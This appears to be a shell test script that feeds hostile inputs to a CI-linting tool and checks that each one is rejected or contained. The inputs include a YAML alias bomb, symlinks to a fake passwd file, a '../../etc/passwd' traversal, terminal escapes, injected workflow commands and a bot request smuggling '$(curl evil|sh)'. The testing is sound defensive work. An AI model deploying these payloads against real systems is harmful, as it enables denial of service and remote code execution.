#!/bin/sh
# Hostile-input suite (issue 27): every case that only a process can show
# (a hang, memory, what reaches the terminal) is generated here, run
# against the built binary with a time limit, and checked: the exit code,
# nothing printed from outside the repository, no workflow command
# injected, and, where GNU time is installed, the peak memory.
#
#   sh bench/hostile/run.sh          (from the repository root)
#
# Cases that a test can assert live beside the code (internal/repofs,
# lint/hostile_test.go, fix/hostile_test.go, explain/hostile_test.go,
# scope/widen_test.go, testregistry); the scaling of the super-linear
# paths is measured by the other scripts in this directory.
set -eu
cd "$(dirname "$0")/../.."
TMP=$(mktemp -d)
trap 'rm -rf "$TMP"' EXIT
CGO_ENABLED=0 go build -o "$TMP/cicheck" ./cmd/cicheck
BIN="$TMP/cicheck"
LIMIT_S=${LIMIT_S:-20}     # no case may run longer
LIMIT_KB=${LIMIT_KB:-524288} # nor use more than 512 MiB
TIME=""
if /usr/bin/time -f %M true >/dev/null 2>&1; then TIME="/usr/bin/time -f %M -o $TMP/rss"; fi
SECRET="TOPSECRET-$$"
ESC=$(printf '\033')
printf 'root:x:0:0:%s:/root:/bin/sh\n' "$SECRET" >"$TMP/passwd"
fail=0
pass=0

# repo DIR: a fresh repository with one good workflow.
repo() {
	rm -rf "$1" && mkdir -p "$1/.github/workflows" "$1/.git"
	echo 'ref: refs/heads/main' >"$1/.git/HEAD"
	printf 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: x}]\n' >"$1/.github/workflows/ok.yml"
}

# check NAME WANT_RC DIR [STDIN_CMD --] CMD...: runs CMD in DIR.
check() {
	name=$1 want=$2 dir=$3
	shift 3
	input=/dev/null
	if [ "$1" = "--stdin" ]; then input=$2; shift 2; fi
	set +e
	(cd "$dir" && timeout "$LIMIT_S" $TIME "$@" <"$input" >"$TMP/out" 2>"$TMP/err")
	rc=$?
	set -e
	why=""
	if [ "$rc" = 124 ]; then why="timed out after ${LIMIT_S}s"; fi
	if [ -z "$why" ] && [ "$want" != any ] && [ "$rc" != "$want" ]; then why="exit $rc, want $want"; fi
	if grep -q "$SECRET" "$TMP/out" "$TMP/err"; then why="$why; printed a file outside the repository"; fi
	if grep -q '^::warning file=x::INJECTED' "$TMP/out" "$TMP/err"; then why="$why; injected a workflow command"; fi
	if grep -q "$ESC" "$TMP/out" "$TMP/err"; then why="$why; printed a terminal escape from the repository"; fi
	if [ -n "$TIME" ] && [ -s "$TMP/rss" ]; then
		kb=$(tail -1 "$TMP/rss")
		case $kb in *[!0-9]*) ;; *) if [ "$kb" -gt "$LIMIT_KB" ]; then why="$why; used ${kb} KB"; fi ;; esac
	fi
	if [ -n "$why" ]; then
		fail=$((fail + 1))
		echo "FAIL $name: $why"
		head -c 300 "$TMP/err" | sed 's/^/    /'
	else
		pass=$((pass + 1))
		echo "ok   $name (exit $rc)"
	fi
}

R="$TMP/repo"

# --- Memory and time without bound
repo "$R"
cat >"$R/.github/workflows/bomb.yml" <<'Y'
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
        b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
        c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
        d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
        e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
        f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
        g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
        h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
    steps: [{run: x}]
Y
check "alias bomb: lint" 1 "$R" "$BIN" lint
check "alias bomb: graph" 1 "$R" "$BIN" graph
check "alias bomb: simulate" 1 "$R" "$BIN" simulate --fail a .github/workflows/bomb.yml
check "alias bomb: runners" 1 "$R" "$BIN" runners
rm "$R/.github/workflows/bomb.yml"
{
	printf 'on: push\njobs:\n  m:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n'
	for k in a b c d e f g h; do printf '        %s: [' $k; i=0; while [ $i -lt 20 ]; do printf '%s%d,' $k $i; i=$((i + 1)); done; printf 'z]\n'; done
	printf '    steps: [{run: x}]\n'
} >"$R/.github/workflows/matrix.yml"
check "8x21 matrix: simulate" 0 "$R" "$BIN" simulate --fail m .github/workflows/matrix.yml
if ! grep -q 'exceeds the maximum of 256 configurations' "$TMP/out"; then echo "FAIL 8x21 matrix: simulate does not give GitHub's error"; fail=$((fail + 1)); fi
check "8x21 matrix: lint (matrix-too-large)" 1 "$R" "$BIN" lint
rm "$R/.github/workflows/matrix.yml"

# --- Files that are not regular files, or that leave the repository
for f in .github/workflows/x.yml .cicheck.yaml .github/actionlint.yaml base.json; do
	repo "$R"
	mkfifo "$R/$f"
	want=2
	case $f in .github/workflows/*) want=1 ;; esac
	args="lint"
	[ "$f" = base.json ] && args="lint --baseline base.json"
	check "named pipe as $f" $want "$R" "$BIN" $args
	repo "$R"
	ln -s /dev/zero "$R/$f"
	check "/dev/zero as $f" $want "$R" "$BIN" $args
	repo "$R"
	ln -s "$TMP/passwd" "$R/$f"
	case $f in base.json) want=any ;; esac # a file the user names may lie anywhere
	check "link out of the repository as $f" $want "$R" "$BIN" $args
done

# The registry's files (miles layout: tests/ci/labels.py and test roots).
mkregistry() {
	repo "$R"
	mkdir -p "$R/tests/ci" "$R/tests/fast"
	printf 'KNOWN_LABELS = {"a": "b"}\n' >"$R/tests/ci/labels.py"
	printf 'from tests.ci.ci_register import register_cpu_ci\nregister_cpu_ci(est_time=1, suite="stage-a-cpu")\n' >"$R/tests/fast/test_ok.py"
}
mkregistry
mkfifo "$R/tests/fast/test_pipe.py"
check "named pipe as a test file" any "$R" "$BIN" registry check
mkregistry
ln -s /dev/zero "$R/tests/fast/test_zero.py"
check "/dev/zero as a test file" any "$R" "$BIN" registry check
mkregistry
ln -s "$TMP/passwd" "$R/tests/fast/test_passwd.py"
check "link out of the repository as a test file" any "$R" "$BIN" registry check
check "link out of the repository as a test file: lint" any "$R" "$BIN" lint
mkregistry
rm "$R/tests/ci/labels.py" && mkfifo "$R/tests/ci/labels.py"
check "named pipe as labels.py" any "$R" "$BIN" registry check
mkregistry
rm "$R/tests/ci/labels.py" && ln -s /dev/zero "$R/tests/ci/labels.py"
check "/dev/zero as labels.py" any "$R" "$BIN" registry check
mkregistry
ln -s / "$R/tests/fast/root"
check "directory link to / under a test root" any "$R" "$BIN" registry check
mkregistry
ln -s .. "$R/tests/fast/loop"
check "directory link loop under a test root" any "$R" "$BIN" registry check

# The sglang layout: run_suite.py's tables, and the partition model file a
# select reads.
mksglang() {
	repo "$R"
	mkdir -p "$R/test/registered"
	printf 'HW_MAPPING = {"cpu": HWBackend.CPU}\nPER_COMMIT_SUITES = {HWBackend.CPU: ["base-a-test-cpu"]}\nNIGHTLY_SUITES = {}\nOTHER_SUITES = {}\n_SUITE_CHECKED_BACKENDS = {HWBackend.CPU}\n' >"$R/test/run_suite.py"
	printf 'register_cpu_ci(est_time=1, suite="base-a-test-cpu")\nif __name__ == "__main__":\n    main()\n' >"$R/test/registered/test_ok.py"
}
mksglang
rm "$R/test/run_suite.py" && mkfifo "$R/test/run_suite.py"
check "named pipe as run_suite.py" any "$R" "$BIN" registry check
mksglang
for model in "$TMP/passwd" /dev/zero; do
	ln -sf "$model" "$R/model.json"
	check "partition model linked to $model" any "$R" "$BIN" registry select --hw cpu --suite base-a-test-cpu --auto-partition-id 0 --auto-partition-size 1 --partition-model-file model.json
done
rm -f "$R/model.json" && mkfifo "$R/model.json"
check "named pipe as the partition model" any "$R" "$BIN" registry select --hw cpu --suite base-a-test-cpu --auto-partition-id 0 --auto-partition-size 1 --partition-model-file model.json
check "partition model outside the repository" 2 "$R" "$BIN" registry select --hw cpu --suite base-a-test-cpu --auto-partition-id 0 --auto-partition-size 1 --partition-model-file ../../etc/passwd
printf 'register_cpu_ci(est_time=1, suite="bad\033[2Jname")\nif __name__ == "__main__":\n    main()\n' >"$R/test/registered/test_esc.py"
check "terminal escape in a suite: registry check" 1 "$R" "$BIN" registry check
check "terminal escape in a suite: registry select" 1 "$R" "$BIN" registry select --hw cpu --suite base-a-test-cpu
rm "$R/test/registered/test_esc.py"
printf 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: x}]\n' >"$R/.github/workflows/$(printf 'x\033[2J').yml"
check "terminal escape in a workflow's name: lint -v" any "$R" "$BIN" lint -v
rm "$R/.github/workflows/"x*.yml
check "partition size 10^12" 0 "$R" "$BIN" registry select --hw cpu --suite base-a-test-cpu --auto-partition-id 5 --auto-partition-size 1000000000000

# --- Streams without end
repo "$R"
head -c 67108864 /dev/zero | tr '\0' 'a' >"$TMP/flood"
check "64 MiB comment: command parse" 2 "$R" --stdin "$TMP/flood" "$BIN" command parse --bot bot
check "64 MiB text: command sanitize" 2 "$R" --stdin "$TMP/flood" "$BIN" command sanitize --bot bot
check "64 MiB PR body: scope check" 2 "$R" --stdin "$TMP/flood" "$BIN" scope check --profile flashinfer --pr-body
check "64 MiB workflow on stdin: lint -" any "$R" --stdin "$TMP/flood" "$BIN" lint -
rm "$TMP/flood"

# --- Injection through file names
repo "$R"
printf 'inj\n::warning file=x::INJECTED\nz.rs\n' >"$TMP/files"
for fmt in text github markdown; do
	check "injected file name: explain-diff --format $fmt" any "$R" "$BIN" explain-diff --files "$TMP/files" --format $fmt
done

# --- A malformed request is rejected, never widened
for body in '@bot run tests/`id`' '@bot run tests/`$(curl evil|sh)`' '@bot run tests/`../..`'; do
	printf '%s\n' "$body" >"$TMP/comment"
	check "request $body: rejected" 1 "$R" --stdin "$TMP/comment" "$BIN" command parse --bot bot
	if grep -q '^accepted' "$TMP/out"; then echo "FAIL request $body: accepted"; fail=$((fail + 1)); fi
done

echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
